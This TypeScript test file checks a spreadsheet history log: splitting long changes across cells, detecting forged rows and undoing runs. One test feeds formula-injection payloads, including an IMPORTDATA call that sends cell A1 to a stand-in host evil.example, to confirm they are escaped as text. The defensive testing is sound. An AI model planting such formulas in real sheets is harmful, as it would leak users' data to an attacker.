/**
 * The compact history row (issue 20.1): one history row per changed sheet row, its changes as
 * signed JSON in one cell within Sheets' 50,000 characters, split across rows when longer; hostile
 * text stays text; a person can read the Summary column.
 */
import { describe, expect, it } from "vitest";
import { decodeHistoryRows } from "../../src/jobs/history/decode";
import { encodeChanges, type RowChanges } from "../../src/jobs/history/format";
import { undoLastRun } from "../../src/jobs/history/undo";
import { CELL_CHAR_LIMIT, toCellValue } from "../../src/sheet/cell-value";
import { url } from "./enrich-fakes";
import { historyWorld } from "./history-fakes";

const SECRET = "s".repeat(40);
const base: RowChanges = {
  runId: "r1",
  time: "2026-11-21T12:00:00Z",
  sheet: "CRM",
  sheetId: 1,
  url: url("a"),
  row: 2,
  headerRow: 1,
  cells: [],
};
/** As the sheet reads it back: the apostrophe that keeps text literal is not shown. */
const readBack = (rows: ReturnType<typeof encodeChanges>) =>
  rows.map((row) => row.map((value) => String(value).replace(/^'/, "")));

describe("compact history rows", () => {
  it("a row's changes longer than a cell are split over rows, each within the limit, and read back whole", () => {
    const long = 'é😀"\\\n'.repeat(20_000);
    const cells = [
      { column: 2, header: "Title", before: long, after: `${long}!` },
      { column: 3, header: "Company", before: "x".repeat(30_000), after: "y".repeat(30_000) },
      { column: 4, header: "Location", before: "", after: "Paris" },
    ];
    const rows = encodeChanges(SECRET, [{ ...base, cells }]);
    expect(rows.length).toBeGreaterThan(3);
    for (const row of rows)
      for (const cell of row) expect(String(cell).length).toBeLessThanOrEqual(CELL_CHAR_LIMIT);
    const decoded = decodeHistoryRows(SECRET, readBack(rows), 1);
    expect(
      decoded.map((change) => [change.cell, change.header, change.before, change.after, change.trust]),
    ).toEqual([
      ["B2", "Title", long, `${long}!`, "signed"],
      ["C2", "Company", "x".repeat(30_000), "y".repeat(30_000), "signed"],
      ["D2", "Location", "", "Paris", "signed"],
    ]);
    // A slice missing (a row deleted by hand) makes the cell unbelievable, not shorter.
    const cut = readBack(rows).filter((_, index) => index !== 1);
    expect(decodeHistoryRows(SECRET, cut, 1).some((change) => change.trust === "forged")).toBe(true);
  });

  it("hostile text stays text: every cell is written as toCellValue writes it, the JSON starts with {", () => {
    const evil = '=IMPORTDATA("https://evil.example/?"&A1)';
    const rows = encodeChanges(SECRET, [
      {
        ...base,
        url: '=HYPERLINK("https://evil.example")',
        cells: [{ column: 2, header: "+cmd", before: evil, after: "@SUM(1)" }],
      },
    ]);
    const [row] = rows;
    // Time is a date (issue 23.10); every text cell is escaped.
    expect(row![1]).toBeInstanceOf(Date);
    for (const value of row!.filter((cell) => !(cell instanceof Date)))
      expect(value).toBe(toCellValue(String(value).replace(/^'/, "")));
    expect(String(row![3])).toBe(`'=HYPERLINK("https://evil.example")`);
    expect(String(row![4]).startsWith("'+cmd: ")).toBe(true);
    expect(String(row![5]).startsWith('{"v":3,')).toBe(true);
  });

  it("a refresh of 200 rows writes 6 history rows of 7 cells: up to 40 changed rows each", () => {
    const start = [
      ["Profile URL", "Title", "Company"],
      ...Array.from({ length: 200 }, (_, index) => [url(`p${index}`), `Old ${index}`, ""]),
    ];
    // Fresh data off: the API's 500 URLs a call, so the 200 rows are one write.
    const w = historyWorld(start, { extras: {} });
    w.run();
    const cells = w.table.rows.reduce((sum, row) => sum + row.length, 0);
    // The header row's record (written first), then the 200 changed rows: ceil(200 / 40) more.
    expect(cells).toBe(6 * 7);
    // For people: Profile URL lists the rows, Summary says each one's changes, one a line.
    const second = w.table.rows[1]!;
    expect(second[3]!.split("\n")).toEqual(start.slice(1, 41).map((row) => row[0]));
    const lines = second[4]!.split("\n");
    expect(lines).toHaveLength(40);
    expect(lines[0]).toMatch(
      new RegExp(
        `^${url("p0")}: \\(cached answer\\) Title: "Old 0" -> "New title p0"; Company: \\(empty\\) -> "New Co"; `,
      ),
    );
    expect(undoLastRun(w.history)).toMatchObject({ leftAlone: 0, notFound: 0, refused: 0 });
    expect(w.grid.cells.map((row) => row.slice(0, 3))).toEqual(start);
  });
});
